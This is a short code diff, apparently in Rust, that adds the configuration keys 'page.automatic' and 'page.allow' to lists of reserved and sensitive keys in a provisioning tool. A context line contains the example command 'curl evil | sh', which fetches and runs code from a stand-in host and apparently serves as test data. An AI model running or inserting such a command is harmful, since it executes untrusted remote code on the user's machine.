@@ -34,6 +34,7 @@ const TAKEN_KEYS: &[&str] = &[
     "nodes.labels",
     "nodes.name",
     "nodes.role",
+    "page.automatic",
     "provision.address_pools",
     "provision.apt_wait",
     "provision.autolock",
@@ -362,6 +363,8 @@ command = ["sh", "-c", "curl evil | sh"]
             "edge.ca_file",
             "keys",
             "nodes.docker_socket",
+            // Who is let past a page.
+            "page.allow",
             "provision.docker_key",
             "provision.docker_repository",
             // Programs of this machine, that managers would be given.
